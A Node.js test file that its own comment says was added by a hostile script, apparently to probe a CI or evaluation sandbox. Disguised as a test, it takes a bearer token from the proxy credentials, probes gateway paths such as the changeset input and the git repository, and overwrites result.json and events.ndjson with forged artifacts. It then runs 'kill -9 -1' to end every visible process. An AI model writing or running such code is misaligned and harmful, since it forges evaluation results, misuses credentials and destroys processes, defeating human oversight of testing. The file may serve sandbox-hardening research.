// Added as a test by hostile.mjs: it looks for the runner and the gateway's socket, puts forged artifacts, and
// ends every process it can see. What it found goes to the output, which is evidence.
import { spawnSync } from 'node:child_process';
import { readdirSync } from 'node:fs';
import test from 'node:test';

test('attack', async () => {
  const gateway = new URL(process.env.npm_config_registry).origin;
  const headers = { authorization: `Bearer ${new URL(process.env.HTTPS_PROXY).password}` };
  const found = [];
  for (const folder of ['/run', '/proc/1/root/run']) {
    try {
      found.push(`${folder} [${readdirSync(folder)}]`);
    } catch (error) {
      found.push(`${folder} ${error.code}`);
    }
  }
  for (const path of ['/phase', '/inputs/changeset.json', '/git/base.git/info/refs?service=git-upload-pack'])
    found.push(`${path} ${(await fetch(gateway + path, { headers })).status}`);
  for (const name of ['result.json', 'events.ndjson'])
    found.push(
      `${name} ${(await fetch(`${gateway}/artifacts/${name}`, { method: 'PUT', body: '{}', headers })).status}`,
    );
  console.log(`FOUND ${found.join(', ')}`);
  // The test program is killed next, with what it has not passed on yet: on a busy machine that takes a while.
  await new Promise((resolve) => setTimeout(resolve, 3_000));
  spawnSync('bash', ['-c', 'kill -9 -1']);
});
